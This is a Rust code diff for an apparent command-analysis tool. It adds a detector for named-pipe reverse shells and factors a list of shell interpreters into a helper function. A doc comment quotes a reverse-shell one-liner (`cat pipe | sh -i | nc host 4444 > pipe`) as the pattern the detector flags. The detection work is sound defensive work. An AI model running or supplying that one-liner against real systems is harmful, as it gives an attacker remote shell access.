@@ -15,9 +15,7 @@ pub(super) fn redirects(command: &Command, traffic: &mut Traffic) {
         };
         let (name, port) = rest.split_once('/').unwrap_or((rest, ""));
         let target = host::host_and_port(name, port.parse().ok()).map_or(Target::Opaque, Target::Host);
-        let is_shell =
-            matches!(command.name, "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "python3" | "python" | "perl");
-        if is_shell {
+        if is_shell(command.name) {
             traffic.shell = Some(format!("{} is connected to {}", command.name, word.raw()));
         }
         traffic.reach(&word, target);
@@ -26,6 +24,36 @@ pub(super) fn redirects(command: &Command, traffic: &mut Traffic) {
             traffic.sends("a redirection");
         }
     }
+}
+
+/// Whether a program runs what it reads from its standard input.
+fn is_shell(name: &str) -> bool {
+    matches!(name, "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "python3" | "python" | "perl")
+}
+
+/// Reads a shell whose output goes to the network, and which gets the answers as its input through a named pipe:
+/// `cat pipe | sh -i | nc host 4444 > pipe`.
+pub(super) fn circle(command: &Command, commands: &[Command], traffic: &mut Traffic) {
+    let written = files_of(command, '>');
+    let shells = command.facts.reads_from.iter().filter_map(|at| commands.get(*at));
+    for shell in shells.filter(|source| is_shell(source.name)) {
+        let sources = shell.facts.reads_from.iter().filter_map(|at| commands.get(*at));
+        let copied = sources.flat_map(|source| source.args().iter().map(as_written));
+        if files_of(shell, '<').into_iter().chain(copied).any(|read| written.contains(&read)) {
+            traffic.shell = Some(format!("{} runs what it gets from the network by a file", shell.name));
+        }
+    }
+}
+
+/// Returns the files that the redirections of a command with this sign name.
+fn files_of(command: &Command, sign: char) -> Vec<String> {
+    let redirects = command.facts.redirects.iter().filter(|redirect| redirect.op.contains(sign));
+    redirects.filter_map(|redirect| redirect.target.as_ref()).map(|word| as_written(&Word::from(word))).collect()
+}
+
+/// Returns a word as written, without quotes around it. Two words that are not known may be the same variable.
+fn as_written(word: &Word) -> String {
+    word.raw().trim_matches(['"', '\'']).to_owned()
 }
 
 /// Reads `https_proxy=…`, and options in variables.
